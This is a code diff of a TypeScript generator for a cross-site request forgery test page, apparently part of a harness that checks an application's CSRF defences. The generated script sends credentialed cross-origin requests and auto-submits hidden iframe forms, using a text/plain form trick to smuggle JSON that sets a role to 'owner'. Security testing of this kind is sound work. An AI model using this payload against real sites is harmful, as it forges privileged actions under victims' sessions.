@@ -35,31 +35,28 @@ function writeAttack(target: string, mutations: readonly Mutation[]): string {
     const target = ${JSON.stringify(target)};
     const mutations = ${JSON.stringify(mutations)};
     const body = JSON.stringify({ name: "stolen", email: "evil@example.com", role: "owner" });
-    async function submitIn(sandbox, path) {
-      const frame = document.createElement("iframe");
-      if (sandbox !== null) frame.setAttribute("sandbox", sandbox);
-      frame.srcdoc = '<form method="post" enctype="text/plain" action="' + target + path +
-        '"><input name=\\'{"name":"stolen","x":"\\' value=\\'"}\\'></form><script>document.forms[0].submit()<' + '/script>';
-      // First the form loads, then the response to it.
-      let loads = 0;
-      const answered = new Promise((done) => { frame.onload = () => ++loads === 2 && done(); setTimeout(done, 2000); });
-      document.body.append(frame);
-      await answered;
-      frame.remove();
-    }
-    function send(type, mode, { method, path }) {
-      const headers = { "content-type": type };
-      return fetch(target + path, { method, mode, credentials: "include", headers, body }).catch(() => {});
-    }
-    // Few enough requests that the person's rate limit, which comes first, rejects none of them.
     async function attack() {
-      const types = [["text/plain", "no-cors"], ["application/x-www-form-urlencoded", "no-cors"], ["application/json", "cors"]];
-      for (const [type, mode] of types) {
-        await Promise.all(mutations.map((mutation) => send(type, mode, mutation)));
-      }
-      const posts = mutations.filter(({ method }) => method === "POST");
-      for (const sandbox of [null, "allow-forms allow-scripts"]) {
-        await Promise.all(posts.map(({ path }) => submitIn(sandbox, path)));
+      for (const { method, path } of mutations) {
+        const types = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
+        for (const type of types) {
+          for (const mode of ["no-cors", "cors"]) {
+            const headers = { "content-type": type };
+            await fetch(target + path, { method, mode, credentials: "include", headers, body }).catch(() => {});
+          }
+        }
+        if (method === "POST") {
+          for (const sandbox of [null, "allow-forms allow-scripts"]) {
+            const frame = document.createElement("iframe");
+            if (sandbox !== null) frame.setAttribute("sandbox", sandbox);
+            frame.srcdoc = '<form method="post" enctype="text/plain" action="' + target + path +
+              '"><input name=\\'{"name":"stolen","x":"\\' value=\\'"}\\'></form><script>document.forms[0].submit()<' + '/script>';
+            const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 2000); });
+            document.body.append(frame);
+            await loaded;
+            await new Promise((done) => setTimeout(done, 50));
+            frame.remove();
+          }
+        }
       }
       document.title = "Done";
     }
